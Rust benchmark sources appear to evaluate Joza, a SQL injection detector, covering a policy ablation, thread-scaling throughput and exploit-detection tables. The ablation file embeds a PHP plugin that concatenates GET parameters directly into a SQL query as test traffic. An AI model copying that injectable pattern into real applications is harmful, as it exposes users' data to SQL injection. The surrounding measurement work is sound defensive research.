         \"detection\": {{\"exploits\": {}, \"baseline_caught\": {}, \"defended_caught\": {}, \
         \"defended_missed\": {}, \"benign_false_positives\": {}, \"per_case\": [\n{}\n    ]}},\n  \
         \"fast_path\": {{\"crawl_requests\": {}, \"first_order_rate\": {:.4}, \
         \"persistence_rate\": {:.4}, \"rate_delta\": {:.4}}},\n  \
         \"throughput\": {{\"corpus_requests\": {}, \"passes\": {}, \
         \"gate_time_no_capture_us\": {:.1}, \"gate_time_capture_us\": {:.1}, \
         \"capture_overhead\": {:.4}}}\n}}\n",
        provenance_json(&MatchKernel::default().to_string()),
        report.routes.len(),
        cells_json,
        second_order_routes.len(),
        first_order_fast.len(),
        persistence_fast.len(),
        report.iterations,
        report.top_poisoned,
        analysis_time.as_secs_f64() * 1e3,
        dets.len(),
        baseline_tp,
        defended_tp,
        dets.len() - defended_tp,
        fps,
        det_json,
        crawl.len(),
        rate_first,
        rate_persistent,
        rate_first - rate_persistent,
        benign_corpus(&so.lab).len(),
        args.repeat,
        t_plain.as_secs_f64() * 1e6,
        t_capture.as_secs_f64() * 1e6,
        overhead,
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write second-order results");
    println!("wrote {}", args.out);
}
