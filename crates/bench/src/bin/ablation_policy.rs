//! Ablation: critical-token policy (§II threat model).
//!
//! The paper considered the strict Ray & Ligatti definition but rejected
//! it: "many programs, such as those that incorporate advanced search
//! functionality, would break as they allow field and table names to be
//! specified through user inputs." This sweep compares the pragmatic
//! default policy against the strict one on (a) the 53 exploits and
//! (b) advanced-search-style benign traffic that passes identifiers and
//! value lists through inputs.

use joza_bench::report::render_table;
use joza_core::{Joza, JozaConfig};
use joza_db::{Database, Value};
use joza_lab::verify::request_for;
use joza_lab::{build_lab, Lab};
use joza_sqlparse::critical::CriticalPolicy;
use joza_webapp::app::{Plugin, WebApp};
use joza_webapp::request::HttpRequest;
use joza_webapp::server::Server;

fn joza_with(lab_app: &WebApp, policy: CriticalPolicy) -> Joza {
    let mut cfg = JozaConfig::optimized();
    cfg.nti.critical = policy.clone();
    cfg.pti.pti.critical = policy;
    Joza::install(lab_app, cfg)
}

fn detected(lab: &mut Lab, joza: &Joza, plugin: &joza_lab::VulnPlugin, payload: &str) -> bool {
    let resp = lab.server.handle_with(&request_for(plugin, payload), joza);
    resp.blocked || resp.executed < resp.queries.len()
}

/// An advanced-search application: column names, sort order, and IN-lists
/// all come from user input — legitimate under the paper's threat model.
fn advanced_search_app() -> Server {
    let mut app = WebApp::wordpress_style("advanced-search");
    app.add_plugin(Plugin::new(
        "find",
        "1.0",
        r#"
        $col = $_GET['orderby'];
        $ids = $_GET['ids'];
        $r = mysql_query("SELECT title FROM posts WHERE id IN (" . $ids . ") ORDER BY " . $col);
        if ($r) { while ($row = mysql_fetch_assoc($r)) { echo $row['title'], ";"; } }
        else { echo "err: ", mysql_error(); }
        "#,
    ));
    let mut db = Database::new();
    db.create_table("posts", &["id", "title", "views", "created"]);
    for i in 1..=5i64 {
        db.insert_row(
            "posts",
            vec![Value::Int(i), format!("post {i}").into(), Value::Int(i * 10), Value::Int(i)],
        );
    }
    Server::new(app, db)
}

fn main() {
    let mut lab = build_lab();
    let all: Vec<_> = lab.plugins.clone().into_iter().chain(lab.cms_cases.clone()).collect();

    println!("ABLATION: pragmatic vs strict critical-token policy\n");
    let mut rows = Vec::new();
    for (name, policy) in [
        ("pragmatic (paper §II)", CriticalPolicy::default()),
        ("strict (Ray & Ligatti)", CriticalPolicy::strict()),
    ] {
        let joza = joza_with(&lab.server.app, policy.clone());
        let exploits_detected = all
            .iter()
            .filter(|p| detected(&mut lab, &joza, p, p.exploit.primary_payload()))
            .count();

        // Advanced-search benign traffic under the same policy.
        let mut server = advanced_search_app();
        let search_joza = {
            let mut cfg = JozaConfig::optimized();
            cfg.nti.critical = policy.clone();
            cfg.pti.pti.critical = policy.clone();
            Joza::install(&server.app, cfg)
        };
        let benign = [
            HttpRequest::get("find").param("orderby", "views").param("ids", "1,2,3"),
            HttpRequest::get("find").param("orderby", "created").param("ids", "4,5"),
            HttpRequest::get("find").param("orderby", "title").param("ids", "2"),
        ];
        let mut broken = 0;
        for req in &benign {
            let resp = server.handle_with(req, &search_joza);
            if resp.blocked || resp.executed < resp.queries.len() {
                broken += 1;
            }
        }

        rows.push(vec![
            name.to_string(),
            format!("{exploits_detected}/{}", all.len()),
            format!("{broken}/{}", benign.len()),
        ]);
    }
    println!(
        "{}",
        render_table(&["Policy", "Exploits detected", "Advanced-search requests broken"], &rows)
    );
    println!("\nReading: the strict policy buys no detection on this testbed (the pragmatic");
    println!("policy already catches every exploit) but breaks legitimate advanced-search");
    println!("traffic — the exact trade-off that led the paper to its pragmatic stance.");
}
