//! Thread-scaling benchmark over the batch-first serving API: checked
//! queries/sec and per-request batch latency at 1/2/4/8 worker threads,
//! plus a deploy-under-load pass at the highest thread count.
//!
//! The paper deploys Joza on a production web server where many PHP
//! workers gate queries concurrently against one shared engine. Earlier
//! revisions of this benchmark measured that regime *through* the
//! simulated PHP application, whose interpreter dominated the profile and
//! capped the observable engine speedup. This revision drives the serving
//! seam directly, the way the redesigned API intends: each worker opens a
//! `JozaSession` per request and checks the request's whole query batch
//! with one `check_batch` call.
//!
//! The workload is `joza_lab::serve_live` traffic: Zipf-distributed route
//! popularity, globally unique query literals (no PTI query-cache hit
//! ever masks a daemon round trip), and periodic attack bursts, so both
//! verdict polarities are exercised at every thread count. The engine
//! runs model-free here — every check takes the full dynamic NTI/PTI
//! path, including the modeled off-CPU pipe round trip — which is what
//! makes the scaling headroom real: workers overlap their pipe waits
//! while the lock-sharded core (16 shards, per-worker stats cells) stays
//! off the critical path.
//!
//! Verdicts at every thread count are compared **bit-for-bit** (full
//! `Verdict` equality: decision, detector, stage trace, generation)
//! against a fresh single-threaded engine serving the same corpus.
//! The deploy-under-load pass then serves the same traffic shape at the
//! highest thread count while a deployer thread hot-swaps the static
//! query models in and back out mid-run, reporting the swap latency and
//! the batch-latency percentiles observed around it.
//!
//! Usage:
//!
//! ```text
//! scaling [--requests N] [--batch B] [--repeat R] [--threads 1,2,4,8]
//!         [--pipe-latency-us US] [--min-speedup X]
//!         [--out results/BENCH_scaling.json]
//! ```
//!
//! `--min-speedup X` makes the run fail unless the highest thread count
//! reaches `X`× the single-thread checked-query throughput (0 disables
//! the gate; CI uses it as a regression tripwire).

use joza_bench::report::{provenance_json, render_table};
use joza_core::{Joza, JozaConfig, MatchKernel, ModelUpdate};
use joza_lab::serve_live::{
    live_corpus, live_engine, live_testbed, serve_live, serve_live_deploying, LiveReport,
    LiveRequest, LiveTestbed, LiveWorkload,
};
use std::time::Duration;

/// Engine shard count (comfortably above the largest thread count so
/// concurrent workers never share a PTI shard or stats cell).
const SHARDS: usize = 16;

/// Routes in the synthetic testbed.
const ROUTES: usize = 24;

#[derive(Debug)]
struct Args {
    requests: usize,
    batch: usize,
    repeat: usize,
    threads: Vec<usize>,
    pipe_latency: Duration,
    min_speedup: f64,
    out: String,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 64,
        batch: 4,
        repeat: 3,
        threads: vec![1, 2, 4, 8],
        pipe_latency: Duration::from_micros(400),
        min_speedup: 0.0,
        out: "results/BENCH_scaling.json".to_string(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--batch" => args.batch = value().parse().expect("--batch"),
            "--repeat" => args.repeat = value().parse().expect("--repeat"),
            "--threads" => {
                args.threads =
                    value().split(',').map(|t| t.trim().parse().expect("--threads")).collect();
            }
            "--pipe-latency-us" => {
                args.pipe_latency =
                    Duration::from_micros(value().parse().expect("--pipe-latency-us"));
            }
            "--min-speedup" => args.min_speedup = value().parse().expect("--min-speedup"),
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    assert!(!args.threads.is_empty(), "--threads needs at least one entry");
    assert!(args.repeat >= 1, "--repeat needs at least one measured pass");
    args
}

/// The engine configuration under test: the paper's optimized deployment
/// plus the sharded core and the modeled off-CPU daemon wait.
fn scaled_config(pipe_latency: Duration) -> JozaConfig {
    let mut cfg = JozaConfig::optimized();
    cfg.shards = SHARDS;
    cfg.pti.pipe_latency = pipe_latency;
    cfg
}

/// One measured cell: the engine at a thread count, aggregated over the
/// measured passes.
#[derive(Debug, Clone)]
struct Cell {
    threads: usize,
    requests_per_sec: f64,
    queries_per_sec: f64,
    batch_p50: Duration,
    batch_p99: Duration,
    verdicts_match: bool,
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[idx]
}

/// Per-pass corpora with disjoint literal-id ranges, so no pass (warmup
/// included) ever re-checks query text an earlier pass put in a cache.
/// Pass 0 is the untimed warmup.
fn pass_corpora(testbed: &LiveTestbed, args: &Args) -> Vec<Vec<LiveRequest>> {
    (0..=args.repeat)
        .map(|pass| {
            live_corpus(
                testbed,
                &LiveWorkload {
                    requests: args.requests,
                    batch: args.batch,
                    seed: 0x4a5a + pass as u64,
                    id_base: (pass * args.requests * args.batch) as u64,
                    ..LiveWorkload::default()
                },
            )
        })
        .collect()
}

/// Serves every pass (warmup untimed, then the measured ones) through a
/// fresh engine at `threads` workers, comparing each measured pass's
/// verdicts bit-for-bit against `reference` (one entry per measured
/// pass; `None` skips comparison — used when *producing* the reference).
fn measure(
    testbed: &LiveTestbed,
    args: &Args,
    corpora: &[Vec<LiveRequest>],
    threads: usize,
    reference: Option<&[LiveReport]>,
) -> (Cell, Vec<LiveReport>) {
    let joza = live_engine(testbed, scaled_config(args.pipe_latency), false);
    let _ = serve_live(&joza, testbed, &corpora[0], threads);
    let mut wall = Duration::ZERO;
    let mut served = 0usize;
    let mut queries = 0usize;
    let mut latencies: Vec<Duration> = Vec::new();
    let mut verdicts_match = true;
    let mut reports = Vec::with_capacity(args.repeat);
    for pass in 1..=args.repeat {
        let report = serve_live(&joza, testbed, &corpora[pass], threads);
        wall += report.wall;
        served += report.verdicts.len();
        queries += report.queries();
        latencies.extend_from_slice(&report.request_latencies);
        if let Some(refs) = reference {
            if report.verdicts != refs[pass - 1].verdicts {
                verdicts_match = false;
            }
        }
        reports.push(report);
    }
    let stats = joza.stats();
    let expected = ((args.repeat + 1) * args.requests * args.batch) as u64;
    assert_eq!(stats.queries, expected, "stats lost queries at {threads} threads");
    assert_eq!(
        stats.model_fast_hits + stats.static_hits + stats.full_checks,
        stats.queries,
        "path partition broken at {threads} threads"
    );
    latencies.sort();
    let secs = wall.as_secs_f64();
    let cell = Cell {
        threads,
        requests_per_sec: if secs > 0.0 { served as f64 / secs } else { 0.0 },
        queries_per_sec: if secs > 0.0 { queries as f64 / secs } else { 0.0 },
        batch_p50: percentile(&latencies, 0.50),
        batch_p99: percentile(&latencies, 0.99),
        verdicts_match,
    };
    (cell, reports)
}

/// The deploy-under-load pass: serves one corpus at `threads` workers
/// while a deployer thread swaps the static query models in (generation
/// 1) and back out (generation 2) halfway through the run.
#[derive(Debug)]
struct DeployRun {
    threads: usize,
    deploy_wall: Duration,
    batch_p50: Duration,
    batch_p99: Duration,
    final_generation: u64,
    max_worker_generation: u64,
    queries: usize,
}

fn deploy_under_load(testbed: &LiveTestbed, args: &Args, threads: usize) -> DeployRun {
    let joza = live_engine(testbed, scaled_config(args.pipe_latency), false);
    // A dedicated id range far past every scaling pass keeps this corpus
    // cache-hostile too.
    let corpus = live_corpus(
        testbed,
        &LiveWorkload {
            requests: args.requests,
            batch: args.batch,
            seed: 0x5eed,
            id_base: 1_000_000,
            ..LiveWorkload::default()
        },
    );
    let report =
        serve_live_deploying(&joza, testbed, &corpus, threads, corpus.len() / 2, |j: &Joza| {
            j.deploy(ModelUpdate::new().query_models(testbed.models.clone()))
                .expect("mid-run model rollout");
            j.deploy(ModelUpdate::new().clear_query_models()).expect("mid-run rollback");
        });
    for (req, batch) in corpus.iter().zip(&report.verdicts) {
        for v in batch {
            assert_eq!(
                v.is_safe(),
                !req.attack,
                "deploy-under-load verdict diverged from ground truth"
            );
        }
    }
    let stats = joza.stats();
    assert_eq!(stats.queries as usize, report.queries(), "queries dropped across the swap");
    assert_eq!(
        stats.model_fast_hits + stats.static_hits + stats.full_checks,
        stats.queries,
        "path partition broken across the swap"
    );
    assert_eq!(joza.generation(), 2, "rollout + rollback must land at generation 2");
    DeployRun {
        threads,
        deploy_wall: report.deploy_wall.expect("deploy must have fired"),
        batch_p50: report.latency_percentile(0.50),
        batch_p99: report.latency_percentile(0.99),
        final_generation: joza.generation(),
        max_worker_generation: report.worker_generations.iter().copied().max().unwrap_or(0),
        queries: report.queries(),
    }
}

fn json_cells(cells: &[Cell]) -> String {
    let base = cells.first().map_or(0.0, |c| c.queries_per_sec);
    cells
        .iter()
        .map(|c| {
            let speedup = if base > 0.0 { c.queries_per_sec / base } else { 0.0 };
            format!(
                "    {{\"threads\": {}, \"requests_per_sec\": {:.1}, \"queries_per_sec\": {:.1}, \
                 \"batch_p50_us\": {}, \"batch_p99_us\": {}, \"speedup_vs_1t\": {:.2}, \
                 \"verdicts_bit_identical\": {}}}",
                c.threads,
                c.requests_per_sec,
                c.queries_per_sec,
                c.batch_p50.as_micros(),
                c.batch_p99.as_micros(),
                speedup,
                c.verdicts_match
            )
        })
        .collect::<Vec<_>>()
        .join(",\n")
}

fn main() {
    let args = parse_args();
    let testbed = live_testbed(ROUTES);
    println!(
        "scaling: {} requests x {} queries x {} passes, threads {:?}, pipe latency {:?}, {} routes",
        args.requests, args.batch, args.repeat, args.threads, args.pipe_latency, ROUTES
    );
    let corpora = pass_corpora(&testbed, &args);

    // The bit-identity reference: a fresh engine serving every measured
    // pass single-threaded. Benign requests must be allowed and attack
    // bursts blocked before any throughput number means anything.
    let (_, reference) = measure(&testbed, &args, &corpora, 1, None);
    for (pass, report) in reference.iter().enumerate() {
        for (req, batch) in corpora[pass + 1].iter().zip(&report.verdicts) {
            for v in batch {
                assert_eq!(
                    v.is_safe(),
                    !req.attack,
                    "single-thread reference diverged from ground truth"
                );
            }
        }
    }

    let mut cells = Vec::new();
    for &t in &args.threads {
        let (cell, _) = measure(&testbed, &args, &corpora, t, Some(&reference));
        cells.push(cell);
    }
    let base = cells[0].queries_per_sec;
    let rows: Vec<Vec<String>> = cells
        .iter()
        .map(|c| {
            vec![
                c.threads.to_string(),
                format!("{:.1}", c.requests_per_sec),
                format!("{:.1}", c.queries_per_sec),
                format!("{:?}", c.batch_p50),
                format!("{:?}", c.batch_p99),
                format!("{:.2}x", if base > 0.0 { c.queries_per_sec / base } else { 0.0 }),
                if c.verdicts_match { "yes" } else { "NO" }.to_string(),
            ]
        })
        .collect();
    println!(
        "\n{}",
        render_table(
            &[
                "Threads",
                "Req/s",
                "Checked q/s",
                "Batch p50",
                "Batch p99",
                "Speedup",
                "Bit-identical"
            ],
            &rows
        )
    );
    for c in &cells {
        assert!(c.verdicts_match, "verdict mismatch vs single-thread at {} threads", c.threads);
    }
    let top = cells.last().expect("at least one cell");
    let top_speedup = if base > 0.0 { top.queries_per_sec / base } else { 0.0 };
    if args.min_speedup > 0.0 {
        assert!(
            top_speedup >= args.min_speedup,
            "speedup gate failed: {:.2}x at {} threads < required {:.2}x",
            top_speedup,
            top.threads,
            args.min_speedup
        );
        println!("speedup gate passed: {:.2}x >= {:.2}x", top_speedup, args.min_speedup);
    }

    let max_threads = args.threads.iter().copied().max().unwrap_or(1);
    let deploy = deploy_under_load(&testbed, &args, max_threads);
    println!(
        "\ndeploy under load ({} threads): rollout+rollback in {:?}, batch p50 {:?} / p99 {:?}, \
         final generation {}, {} queries conserved",
        deploy.threads,
        deploy.deploy_wall,
        deploy.batch_p50,
        deploy.batch_p99,
        deploy.final_generation,
        deploy.queries
    );

    let threads_list = args.threads.iter().map(usize::to_string).collect::<Vec<_>>().join(", ");
    let json = format!(
        "{{\n  \"benchmark\": \"scaling\",\n  \"provenance\": {},\n  \"threads\": [{}],\n  \
         \"requests_per_pass\": {},\n  \"batch\": {},\n  \"passes\": {},\n  \
         \"pipe_latency_us\": {},\n  \"shards\": {},\n  \"routes\": {},\n  \
         \"workload\": \"serve_live: zipf routes, unique literals, attack bursts\",\n  \
         \"cells\": [\n{}\n  ],\n  \"deploy_under_load\": {{\"threads\": {}, \"deploys\": 2, \
         \"deploy_wall_us\": {}, \"batch_p50_us\": {}, \"batch_p99_us\": {}, \
         \"final_generation\": {}, \"max_worker_generation\": {}, \"queries\": {}}}\n}}\n",
        provenance_json(&MatchKernel::default().to_string()),
        threads_list,
        args.requests,
        args.batch,
        args.repeat,
        args.pipe_latency.as_micros(),
        SHARDS,
        ROUTES,
        json_cells(&cells),
        deploy.threads,
        deploy.deploy_wall.as_micros(),
        deploy.batch_p50.as_micros(),
        deploy.batch_p99.as_micros(),
        deploy.final_generation,
        deploy.max_worker_generation,
        deploy.queries
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write scaling results");
    println!("wrote {}", args.out);
}
