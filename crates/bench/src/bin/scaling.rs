//! Thread-scaling benchmark: requests/sec and gate latency at 1/2/4/8
//! worker threads for three gate configurations.
//!
//! The paper deploys Joza on a production web server where many PHP
//! workers serve concurrently against one shared engine. This benchmark
//! measures how the lock-sharded engine core holds up in that regime:
//!
//! * **plain** — no protection ([`joza_webapp::gate::AllowAll`]): the
//!   testbed's raw serving capacity;
//! * **joza-optimized** — one shared lock-sharded [`Joza`] engine
//!   (16 shards, long-lived daemons, shared query cache) with the modeled
//!   off-CPU pipe round-trip latency applied, so each worker genuinely
//!   *waits* on its daemon the way a PHP worker waits on a pipe;
//! * **static-fastpath** — the same engine behind
//!   [`joza_webapp::gate::StaticFastPath`], with routes proven taint-free
//!   by the static analyzer short-circuiting the dynamic gate entirely.
//!
//! The workload is fresh-content comment posting — the query-cache-
//! hostile case, so every measured request drives at least one real
//! daemon round trip through the sharded engine rather than a cache hit.
//! Verdicts at every thread count are checked against a fresh
//! single-threaded engine: sharding must never change a decision.
//!
//! Usage:
//!
//! ```text
//! scaling [--requests N] [--repeat R] [--threads 1,2,4,8]
//!         [--pipe-latency-us US] [--out results/BENCH_scaling.json]
//! ```

use joza_bench::report::{provenance_json, render_table};
use joza_core::{Joza, JozaConfig, MatchKernel};
use joza_lab::serve::{serve_parallel, ParallelRun};
use joza_lab::{build_lab, Lab};
use joza_sast::{analyze_app, taint_free_routes};
use joza_webapp::gate::{AllowAll, GateFactory, StaticFastPath};
use joza_webapp::request::HttpRequest;
use std::time::Duration;

/// Engine shard count used for the sharded cells (comfortably above the
/// largest thread count so workers never share a shard).
const SHARDS: usize = 16;

/// Builds a fresh gate for one measurement cell (no cell inherits another
/// cell's cache warmth or MRU order).
type GateMaker<'a> = Box<dyn Fn() -> Box<dyn GateFactory> + 'a>;

#[derive(Debug)]
struct Args {
    requests: usize,
    repeat: usize,
    threads: Vec<usize>,
    pipe_latency: Duration,
    out: String,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 96,
        repeat: 3,
        threads: vec![1, 2, 4, 8],
        pipe_latency: Duration::from_micros(400),
        out: "results/BENCH_scaling.json".to_string(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--repeat" => args.repeat = value().parse().expect("--repeat"),
            "--threads" => {
                args.threads =
                    value().split(',').map(|t| t.trim().parse().expect("--threads")).collect();
            }
            "--pipe-latency-us" => {
                args.pipe_latency =
                    Duration::from_micros(value().parse().expect("--pipe-latency-us"));
            }
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    assert!(!args.threads.is_empty(), "--threads needs at least one entry");
    args
}

/// The engine configuration under test: the paper's optimized deployment
/// plus the sharded core and the modeled off-CPU daemon wait.
fn scaled_config(pipe_latency: Duration) -> JozaConfig {
    let mut cfg = JozaConfig::optimized();
    cfg.shards = SHARDS;
    cfg.pti.pipe_latency = pipe_latency;
    cfg
}

/// One measured cell: a gate at a thread count.
#[derive(Debug, Clone)]
struct Cell {
    threads: usize,
    requests_per_sec: f64,
    queries_per_sec: f64,
    gate_p50: Duration,
    gate_p99: Duration,
    verdicts_match: bool,
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[idx]
}

/// The workload: pass-unique comment posts (query-cache hostile), so
/// warmup and every measured repetition carry fresh INSERT content.
fn workload(n: usize, pass: usize) -> Vec<HttpRequest> {
    joza_bench::workload::write_requests_pass(n, pass)
}

/// Serves `repeat` fresh-content passes through `factory` at `threads`
/// workers and aggregates throughput + latency over the measured passes.
/// Pass 0 is untimed warmup (daemons spawned, SELECT side of the route
/// cached); passes `1..=repeat` are measured.
fn measure(
    factory: &dyn GateFactory,
    threads: usize,
    requests: usize,
    repeat: usize,
    reference: &[bool],
) -> Cell {
    let _ = serve_parallel(build_lab, factory, threads, &workload(requests, 0));
    let mut wall = Duration::ZERO;
    let mut served = 0usize;
    let mut queries = 0usize;
    let mut gate_times: Vec<Duration> = Vec::with_capacity(requests * repeat);
    let mut verdicts_match = true;
    for pass in 1..=repeat.max(1) {
        let reqs = workload(requests, pass);
        let run: ParallelRun = serve_parallel(build_lab, factory, threads, &reqs);
        wall += run.wall;
        served += run.responses.len();
        for (resp, expected_blocked) in run.responses.iter().zip(reference) {
            queries += resp.queries.len();
            gate_times.push(resp.gate_time);
            if resp.blocked != *expected_blocked {
                verdicts_match = false;
            }
        }
    }
    gate_times.sort();
    let secs = wall.as_secs_f64();
    Cell {
        threads,
        requests_per_sec: if secs > 0.0 { served as f64 / secs } else { 0.0 },
        queries_per_sec: if secs > 0.0 { queries as f64 / secs } else { 0.0 },
        gate_p50: percentile(&gate_times, 0.50),
        gate_p99: percentile(&gate_times, 0.99),
        verdicts_match,
    }
}

/// Blocked-flags from a fresh single-threaded engine serving the same
/// measured passes — the consistency reference every cell is checked
/// against. (All passes use the same per-pass request generator, and
/// the workload is benign, so one pass's flags cover them all.)
fn single_thread_reference(make: &dyn Fn() -> Box<dyn GateFactory>, requests: usize) -> Vec<bool> {
    let factory = make();
    let _ = serve_parallel(build_lab, factory.as_ref(), 1, &workload(requests, 0));
    let run = serve_parallel(build_lab, factory.as_ref(), 1, &workload(requests, 1));
    run.responses.iter().map(|r| r.blocked).collect()
}

fn json_cells(cells: &[Cell]) -> String {
    let base = cells.first().map_or(0.0, |c| c.queries_per_sec);
    cells
        .iter()
        .map(|c| {
            let speedup = if base > 0.0 { c.queries_per_sec / base } else { 0.0 };
            format!(
                "      {{\"threads\": {}, \"requests_per_sec\": {:.1}, \"queries_per_sec\": {:.1}, \
                 \"gate_p50_us\": {}, \"gate_p99_us\": {}, \"speedup_vs_1t\": {:.2}, \
                 \"verdicts_match_single_thread\": {}}}",
                c.threads,
                c.requests_per_sec,
                c.queries_per_sec,
                c.gate_p50.as_micros(),
                c.gate_p99.as_micros(),
                speedup,
                c.verdicts_match
            )
        })
        .collect::<Vec<_>>()
        .join(",\n")
}

fn main() {
    let args = parse_args();
    let lab: Lab = build_lab();

    let fast_routes = taint_free_routes(&analyze_app(&lab.server.app));
    println!(
        "scaling: {} requests x {} passes, threads {:?}, pipe latency {:?}, {} fast-path routes",
        args.requests,
        args.repeat,
        args.threads,
        args.pipe_latency,
        fast_routes.len()
    );

    let gates: Vec<(&str, GateMaker)> = vec![
        ("plain", Box::new(|| Box::new(AllowAll))),
        ("joza-optimized", {
            let app = &lab.server.app;
            let latency = args.pipe_latency;
            Box::new(move || Box::new(Joza::install(app, scaled_config(latency))))
        }),
        ("static-fastpath", {
            let app = &lab.server.app;
            let latency = args.pipe_latency;
            let routes = fast_routes.clone();
            Box::new(move || {
                Box::new(StaticFastPath::new(
                    Joza::install(app, scaled_config(latency)),
                    routes.iter().cloned(),
                ))
            })
        }),
    ];

    let mut json_gates = Vec::new();
    for (name, make) in &gates {
        let reference = single_thread_reference(make.as_ref(), args.requests);
        assert!(
            reference.iter().all(|b| !b),
            "{name}: benign workload blocked single-threaded (false positive)"
        );
        let mut cells = Vec::new();
        for &t in &args.threads {
            let factory = make();
            cells.push(measure(factory.as_ref(), t, args.requests, args.repeat, &reference));
        }
        let base = cells[0].queries_per_sec;
        let rows: Vec<Vec<String>> = cells
            .iter()
            .map(|c| {
                vec![
                    c.threads.to_string(),
                    format!("{:.1}", c.requests_per_sec),
                    format!("{:.1}", c.queries_per_sec),
                    format!("{:?}", c.gate_p50),
                    format!("{:?}", c.gate_p99),
                    format!("{:.2}x", if base > 0.0 { c.queries_per_sec / base } else { 0.0 }),
                    if c.verdicts_match { "yes" } else { "NO" }.to_string(),
                ]
            })
            .collect();
        println!("\n== {name} ==");
        println!(
            "{}",
            render_table(
                &[
                    "Threads",
                    "Req/s",
                    "Checked q/s",
                    "Gate p50",
                    "Gate p99",
                    "Speedup",
                    "Verdicts ok"
                ],
                &rows
            )
        );
        for c in &cells {
            assert!(c.verdicts_match, "{name}: verdict mismatch at {} threads", c.threads);
        }
        json_gates.push(format!(
            "    {{\"gate\": \"{name}\", \"cells\": [\n{}\n    ]}}",
            json_cells(&cells)
        ));
    }

    let json = format!
    (
        "{{\n  \"benchmark\": \"scaling\",\n  \"provenance\": {},\n  \"requests_per_pass\": {},\n  \"passes\": {},\n  \
         \"pipe_latency_us\": {},\n  \"shards\": {},\n  \"workload\": \"fresh-content comment posts\",\n  \
         \"gates\": [\n{}\n  ]\n}}\n",
        provenance_json(&MatchKernel::default().to_string()),
        args.requests,
        args.repeat,
        args.pipe_latency.as_micros(),
        SHARDS,
        json_gates.join(",\n")
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write scaling results");
    println!("wrote {}", args.out);
}
