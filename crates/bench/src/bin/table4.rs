//! Table IV: the full per-plugin security grid — NTI/PTI against original
//! and mutated exploits, and Joza against everything.

use joza_bench::report::{render_table, yn};
use joza_bench::security::evaluate;

fn main() {
    let eval = evaluate();
    println!("TABLE IV: Joza security effectiveness (original + mutated exploits)\n");
    let headers = [
        "Plugin / Application",
        "Version",
        "CVE/OSVDB",
        "SQL Vulnerability",
        "NTI Orig",
        "NTI Mut",
        "PTI Orig",
        "PTI Mut",
        "Joza",
    ];
    let mut rows: Vec<Vec<String>> = Vec::new();
    for o in eval.plugins.iter().chain(eval.cms.iter()) {
        rows.push(vec![
            o.plugin.name.clone(),
            o.plugin.version.clone(),
            o.plugin.cve.clone(),
            o.plugin.attack_type.to_string(),
            yn(o.nti_original),
            yn(o.nti_mutated),
            yn(o.pti_original),
            yn(o.pti_mutated),
            yn(o.joza_all),
        ]);
    }
    println!("{}", render_table(&headers, &rows));

    let all = eval.plugins.iter().chain(eval.cms.iter());
    let total = eval.plugins.len() + eval.cms.len();
    let joza_ok = all.clone().filter(|o| o.joza_all).count();
    let nti_orig = all.clone().filter(|o| o.nti_original).count();
    let nti_mut_evaded = all.clone().filter(|o| !o.nti_mutated).count();
    let pti_orig = all.clone().filter(|o| o.pti_original).count();
    let pti_mut_evaded = all.clone().filter(|o| !o.pti_mutated).count();
    let taintless = all.clone().filter(|o| o.taintless_adapted).count();
    let working = all.clone().filter(|o| o.exploit_works).count();

    println!("Summary ({total} targets):");
    println!("  working exploits:                {working}/{total}");
    println!("  NTI detected (original):         {nti_orig}/{total}   (paper: 49/50 testbed)");
    println!("  NTI evaded by mutation:          {nti_mut_evaded}/{total}   (paper: 51/53)");
    println!("  PTI detected (original):         {pti_orig}/{total}   (paper: 50/50 testbed)");
    println!("  Taintless adapted exploits:      {taintless}/{total}   (paper: 14/53 incl. CMS)");
    println!("  PTI evaded by Taintless mutant:  {pti_mut_evaded}/{total}");
    println!("  Joza detected everything:        {joza_ok}/{total}   (paper: 53/53)");
}
