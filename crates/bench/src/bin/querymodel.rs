//! Static query-model evaluation: coverage, verdict parity, fast-path
//! hit rate, and end-to-end gate throughput with models compiled in.
//!
//! `joza_sast::app_query_models` infers, per route, the set of legal
//! query skeletons each sink can emit; `joza_core` compiles them into
//! the gate as a whitelist fast path (matching queries skip NTI/PTI)
//! plus a structural-anomaly signal (a query outside a *complete* model
//! deformed the statically known structure). This benchmark measures
//! that pipeline over the full WP-SQLI-LAB:
//!
//! * **coverage** — routes/sites/templates modeled, checked against the
//!   lab's ground-truth completeness labels;
//! * **parity** — blocking verdicts with models on must be identical to
//!   the model-off baseline over benign *and* exploit traffic, attacks
//!   must never ride the fast path, and ≥ 50% of benign queries must;
//! * **throughput** — multi-worker checked-queries/sec, model-off vs
//!   model-on, over the benign-heavy fresh-content comment workload
//!   with the modeled daemon pipe latency applied (the fast path skips
//!   the daemon round trip entirely, which is where the win comes from).
//!
//! Usage:
//!
//! ```text
//! querymodel [--requests N] [--repeat R] [--threads 1,4]
//!            [--pipe-latency-us US] [--out results/BENCH_querymodel.json]
//! ```

use joza_bench::report::{pct, provenance_json, render_table};
use joza_core::{Joza, JozaConfig, MatchKernel};
use joza_lab::serve::serve_parallel;
use joza_lab::verify::request_for;
use joza_lab::{build_lab, model_ground_truth, Lab};
use joza_sast::app_query_models;
use joza_webapp::request::HttpRequest;
